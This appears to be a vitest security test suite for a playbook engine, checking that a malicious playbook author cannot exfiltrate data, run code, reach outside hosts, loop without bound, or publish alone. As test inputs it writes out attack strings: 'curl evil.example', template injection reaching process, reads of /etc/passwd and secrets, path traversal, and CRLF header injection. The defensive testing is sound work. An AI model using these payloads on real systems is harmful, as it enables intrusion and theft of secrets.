import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, describe, expect, it } from 'vitest';
import type { Entry } from '../../engine/core/contracts/entry.ts';
import { chainMax } from '../../engine/core/match/match-event.ts';
import {
  decide,
  forWholeAlert,
  hostAlert,
  isolateStep,
  lookStep,
  madePlaybook,
  onlyQuestion,
  questions,
  until,
  ws0117,
} from '../corridor/questions.ts';
import { openCorridor } from '../support/corridor.ts';
import { openCorridorDoors } from '../support/corridor-doors.ts';

/*
 * T18: an author of playbooks wants data out, or the engine busy for ever. He may write what he likes and have it
 * checked; he runs no code, names no host, finds every loop bounded, and cannot put it in force by himself.
 */

/** Where he wants to have it. */
const knocks: string[] = [];
const outside = createServer((request, response) => {
  knocks.push(request.url ?? '');
  response.end('{}');
});
outside.on('connection', () => knocks.push('connection'));
await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
const evil = `127.0.0.1:${(outside.address() as AddressInfo).port}`;

const corridor = await openCorridor({ playbooks: [] });
const doors = await openCorridorDoors(corridor);
const eve = await doors.person('Eve', ['author', 'approver'], ['soc']);
const olga = await doors.person('Olga', ['operator'], ['soc']);
afterAll(async () => {
  await corridor.close();
  outside.closeAllConnections();
  outside.close();
});

const check = async (source: string): Promise<string[]> => {
  const answer = await doors.call('POST', '/v1/playbooks/check', { token: eve.token, body: { source } });
  expect(answer.status).toBe(200);
  const { ok, report } = answer.body as {
    ok: boolean;
    report: { diagnostics: { severity: string; code: string }[] };
  };
  expect(ok).toBe(false);
  return report.diagnostics.filter(({ severity }) => severity === 'error').map(({ code }) => code);
};
const publish = (token: string, id: string, source: string) =>
  doors.call('PUT', `/v1/playbooks/${id}/versions`, { token, body: { source } });
const say = (text: string) =>
  `  - id: tell\n    action: chat.post-message\n    with: { channel: soc, text: ${JSON.stringify(text)} }\n`;

describe('code', () => {
  it.each([
    ['a shell step', 'compile/empty-step', '  - id: a\n    run: curl evil.example\n'],
    ['a script step', 'compile/empty-step', '  - id: a\n    script: "fetch(\'//evil\')"\n'],
    ['an action out of a path', 'compile/invalid-value', '  - id: a\n    action: ../../../tmp/evil\n'],
    ['an action out of a package', 'compile/invalid-value', '  - id: a\n    action: npm:evil\n'],
    [
      'the way to the constructor',
      'compile/bad-expression',
      say('${{ alert.constructor.constructor("return process")() }}'),
    ],
    ['the prototype', 'compile/unknown-name', say('${{ alert.__proto__ }}')],
    ['the process', 'compile/unknown-name', say('${{ process.env.RIPOSTE_AUDIT_KEY_FILE }}')],
    ['the environment', 'compile/unknown-name', say('${{ env.DATABASE_URL }}')],
    ['the secrets of a connection', 'compile/unknown-name', say('${{ secrets.client_secret }}')],
    ['the connection', 'compile/unknown-name', say('${{ connection.settings }}')],
    ['a function that reads', 'compile/bad-expression', say('${{ readFile("/etc/passwd") }}')],
    ['a function that asks', 'compile/bad-expression', say('${{ http.get("http://evil.example") }}')],
    ['a function of its own', 'compile/bad-expression', say('${{ (x => x)("a") }}')],
    ['an assignment', 'compile/bad-expression', say('${{ alert.title = "x" }}')],
    [
      'a template in a template',
      'compile/invalid-value',
      '  - id: "${{ alert.title }}"\n    action: inventory.get-host\n    with: { host_id: x }\n',
    ],
    [
      'an action that the alert chooses',
      'compile/invalid-value',
      '  - id: a\n    action: "${{ alert.title }}"\n    with: { host_id: x }\n',
    ],
  ])('as %s is not in the language: %s', async (_what, code, steps) => {
    expect(await check(forWholeAlert('code', steps))).toContain(code);
  });

  it('that stands in an alert is a text: it is looked at by no expression a second time', async () => {
    const text = '${{ alert.source_id }} {{ secrets }} ${process.env.HOME} {{7*7}}';
    await corridor.publish(forWholeAlert('echo', say('Title: ${{ alert.title }}')));
    await corridor.sendBody({ ...hostAlert('echo', 'echo-1', ws0117), title: text });
    await corridor.rest();
    const { rows } = await corridor.database.app.query<{ text: string }>(
      `select arguments->>'text' as text from attempts a join runs r on r.id = a.run_id where r.playbook_id = 'echo'`,
    );
    expect(rows).toEqual([{ text: `Title: ${text}` }]);
  });
});

describe('a host', () => {
  it.each([
    [
      'as an argument that no action has',
      'compile/invalid-argument',
      `  - id: a\n    action: inventory.get-host\n    with: { host_id: x, url: "http://${evil}" }\n`,
    ],
    [
      'as a header',
      'compile/unknown-field',
      `  - id: a\n    action: inventory.get-host\n    with: { host_id: x }\n    headers: { host: ${evil} }\n`,
    ],
    [
      'as a connection that is none',
      'compile/unknown-connection',
      `  - id: a\n    action: inventory.get-host\n    connection: "http://${evil}"\n    with: { host_id: x }\n`,
    ],
    [
      'as a connection that the alert chooses',
      'compile/unknown-connection',
      '  - id: a\n    action: inventory.get-host\n    connection: "${{ alert.title }}"\n    with: { host_id: x }\n',
    ],
    [
      'as a setting of the playbook',
      'compile/unknown-field',
      `connections: { inventory: { url: "http://${evil}" } }\n`,
    ],
  ])('cannot be named %s: %s', async (what, code, steps) => {
    const source = what.includes('setting')
      ? madePlaybook('host', lookStep).replace('steps:\n', `${steps}steps:\n`)
      : madePlaybook('host', steps);
    expect(await check(source)).toEqual(expect.arrayContaining([code]));
  });

  it('is not reached by whatever an argument holds: it stays one segment of a path at the vendor', async () => {
    const texts = [
      `//${evil}/steal`,
      `http://${evil}/steal`,
      `@${evil}/`,
      `../../../../${evil}`,
      '..%2f..%2f..%2fchat%2fwebhook',
      `x?redirect=http://${evil}`,
      `x#@${evil}`,
      `\\\\${evil}\\steal`,
      `x\r\nHost: ${evil}\r\n\r\nGET /steal`,
      '..',
    ];
    const base = '/mde/api/';
    for (const [n, text] of texts.entries()) {
      const id = `reach-${n}`;
      await corridor.publish(
        madePlaybook(
          id,
          `  - id: go\n    action: inventory.get-host\n    with: { host_id: ${JSON.stringify(text)} }\n`,
        ),
      );
      const before = corridor.lab.estate.calls().length;
      await corridor.sendBody(hostAlert(id, `${id}-1`, ws0117));
      await corridor.rest();
      expect((await corridor.runs()).at(-1)?.state, text).toBe('failed');
      const calls = corridor.lab.estate.calls().slice(before);
      for (const { url } of calls.filter(({ url }) => !url.startsWith('/login'))) {
        const path = new URL(url, 'http://lab').pathname;
        expect(path.startsWith(base) || path.startsWith('/graph/v1.0/'), url).toBe(true);
        expect(url).not.toContain('steal/');
      }
    }
    expect(knocks).toEqual([]);
  }, 60_000);

  it('of a chat is not his to choose: a channel is a name that the connection knows', async () => {
    const steps = `  - id: tell\n    action: chat.post-message\n    with: { channel: "http://${evil}/hook", text: Secret }\n`;
    await corridor.publish(madePlaybook('chat', steps));
    await corridor.sendBody(hostAlert('chat', 'chat-1', ws0117));
    await corridor.rest();
    expect((await corridor.runs()).at(-1)?.state).toBe('failed');
    expect(knocks).toEqual([]);
  });
});

describe('a loop', () => {
  it.each([
    [
      'over more than five thousand',
      'compile/over-limit',
      `  - id: all\n    foreach: alert.targets.hosts\n    as: host\n    max_items: 5001\n    steps:\n      - set: { x: 1 }\n`,
    ],
    [
      'that repeats more than a hundred times',
      'compile/over-limit',
      `  - id: again\n    repeat: { until: "false", max: 101 }\n    steps:\n      - set: { x: 1 }\n`,
    ],
    [
      'that repeats without a bound',
      'compile/missing-field',
      `  - id: again\n    repeat: { until: "false" }\n    steps:\n      - set: { x: 1 }\n`,
    ],
    ['that waits longer than a run lives', 'compile/over-limit', '  - id: sleep\n    wait: 400d\n'],
    ['of a playbook that calls itself', 'compile/call-cycle', '  - id: me\n    call: loop\n'],
    [
      'that tries again without end',
      'compile/over-limit',
      `${isolateStep}    retry: { max_attempts: 1000000, initial: 1ms }\n`,
    ],
    [
      'of more steps than a page shows',
      'compile/over-limit',
      Array.from({ length: 201 }, (_, n) => lookStep.replace('id: asset', `id: s${n}`)).join(''),
    ],
    [
      'in an expression',
      'compile/expression-too-large',
      say(`\${{ ${'['.repeat(3)}1${']'.repeat(3)}.map(a, [1].map(b, [1].map(c, [1].map(d, 1)))) }}`),
    ],
  ])('%s is not published: %s', async (_what, code, body) => {
    expect(await check(forWholeAlert('loop', body))).toContain(code);
  });

  it('of playbooks that start each other ends by itself, and the trace says why', async () => {
    const fail = '  - stop: { outcome: failed, reason: On purpose }\n';
    const listens = '  - id: again\n    type: run.failed\n';
    for (const id of ['ping', 'pong', 'peng'])
      await corridor.publish(
        forWholeAlert(id, fail)
          .replace('inputs:\n', `${listens}inputs:\n`)
          .replace(/( +)on_alert: (.*)\n/, '$1on_alert: $2\n$1again: none\n'),
      );
    await corridor.sendBody(hostAlert('ping', 'ping-1', ws0117));
    await corridor.rest();
    const runs = (await corridor.runs()).filter(({ playbook_id }) => /^p.ng$/.test(playbook_id));
    expect(runs.length).toBeGreaterThan(2);
    // Each failure wakes the two others, so a chain of five doubles five times, and once more for the first.
    expect(runs.length).toBeLessThan(2 ** (chainMax + 2));
    const { rows } = await corridor.database.app.query<{ code: string }>(
      `select distinct code from decision_traces where playbook_id ~ '^p.ng$' and code is not null`,
    );
    expect(rows.map(({ code }) => code)).toEqual(expect.arrayContaining(['match/loop']));
  }, 60_000);

  it('over data that the attacker chose costs a budget, and the run fails', async () => {
    const hungry = say(
      '${{ string(size(alert.title.split(" ").map(a, alert.title.split(" ").map(b, a + b)))) }}',
    );
    await corridor.publish(forWholeAlert('hungry', hungry));
    await corridor.sendBody({ ...hostAlert('hungry', 'hungry-1', ws0117), title: 'a '.repeat(499) });
    await corridor.rest();
    const run = (await corridor.runs()).find(({ playbook_id }) => playbook_id === 'hungry');
    expect(run?.state).toBe('failed');
    const codes = (await corridor.story(run?.id)).map(({ code }) => code);
    expect(codes).toContain('run/expression-budget');
  });
});

describe('putting it in force', () => {
  const source = madePlaybook('mine', `${isolateStep}    approval: { approvers: [group:soc] }\n`);

  it('is not his: the refusal is written down with his name, and nothing starts', async () => {
    const answer = await publish(eve.token, 'mine', source);
    expect([answer.status, answer.body.code]).toEqual([403, 'auth/forbidden']);
    const rows = await corridor.database.owner.query(`select 1 from playbooks where id = 'mine'`);
    expect(rows.rows).toEqual([]);
    const told = (await corridor.story()) as unknown as Entry[];
    expect(told).toContainEqual(
      expect.objectContaining({
        type: 'auth.refused',
        code: 'auth/forbidden',
        actor: expect.objectContaining({ kind: 'person', id: eve.person.id }),
      }),
    );
  });

  it('is not his by the routing file, the switch, or a run by hand either', async () => {
    for (const [method, path, body] of [
      ['PUT', '/v1/settings/routing', { source: 'kind: routing/v1\nplaybooks: []\n' }],
      ['PUT', '/v1/settings/guardrails', { source: 'kind: guardrails/v1\n' }],
      ['POST', '/v1/playbooks/echo/disable', undefined],
      ['POST', '/v1/playbooks/echo/enable', undefined],
    ] as const) {
      const answer = await doors.call(method, path, {
        token: eve.token,
        ...(body !== undefined && { body }),
        headers: { 'if-match': '"0"' },
      });
      expect([path, answer.status]).toEqual([path, 403]);
    }
  });

  it('is a second person, who then decides nothing about its runs', async () => {
    expect(await publish(olga.token, 'mine', source)).toMatchObject({ status: 200 });
    const told = (await corridor.story()) as unknown as Entry[];
    expect(told).toContainEqual(
      expect.objectContaining({
        type: 'playbook.published',
        actor: expect.objectContaining({ kind: 'person', id: olga.person.id }),
        playbook: expect.objectContaining({ id: 'mine', digest: expect.stringMatching(/^sha256:/) }),
      }),
    );
    await corridor.sendBody(hostAlert('mine', 'mine-1', ws0117));
    await until(async () => (await questions(corridor, 'pending')).length === 1);
    const asked = await onlyQuestion(corridor);
    expect(await decide(corridor, asked, olga.person.id)).toMatchObject({
      ok: false,
      code: 'approval/separation',
    });
    expect(corridor.lab.estate.effect('network-isolated', `host:${ws0117}`).orders).toBe(0);
  });
});
